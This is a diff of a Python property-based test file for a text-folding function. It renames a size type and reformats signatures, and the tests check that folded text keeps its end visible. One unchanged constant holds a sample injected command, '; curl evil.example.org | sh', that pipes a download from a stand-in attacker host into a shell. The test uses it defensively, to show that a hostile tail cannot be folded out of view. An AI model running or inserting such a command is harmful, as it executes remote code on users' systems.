@@ -10,7 +10,7 @@ from supervisor.core.text.folding import (
     CARD,
     LINE,
     MARK,
-    Room,
+    FoldSize,
     Size,
     cells,
     fold,
@@ -20,7 +20,7 @@ from supervisor.core.text.folding import (
 )
 
 END = "; curl evil.example.org | sh"
-ROOMS = [CARD, LINE, Room(Size(150, 8), Size(60, 3), Size(60, 3))]
+ROOMS = [CARD, LINE, FoldSize(Size(150, 8), Size(60, 3), Size(60, 3))]
 # Text as somebody writes it who wants its end overlooked.
 HIDING = st.lists(
     st.one_of(
@@ -111,7 +111,9 @@ def test_cells(text: str, wide: int) -> None:
 
 
 @given(HIDING, st.sampled_from(ROOMS))
-def test_the_end_is_in_view_and_what_is_left_out_is_counted_exactly(text: str, room: Room) -> None:
+def test_the_end_is_in_view_and_what_is_left_out_is_counted_exactly(
+    text: str, room: FoldSize
+) -> None:
     found = fold(text, room)
     if not found.characters:
         assert (found.head, found.tail, found.breaks) == (
@@ -131,7 +133,7 @@ def test_the_end_is_in_view_and_what_is_left_out_is_counted_exactly(text: str, r
 
 
 @given(HIDING, st.sampled_from(ROOMS))
-def test_what_is_shown_fits_into_its_room(text: str, room: Room) -> None:
+def test_what_is_shown_fits_into_its_room(text: str, room: FoldSize) -> None:
     found = fold(text, room)
     for part, size in (
         ((found.head, room.head), (found.tail, room.tail)) if found.characters else ()
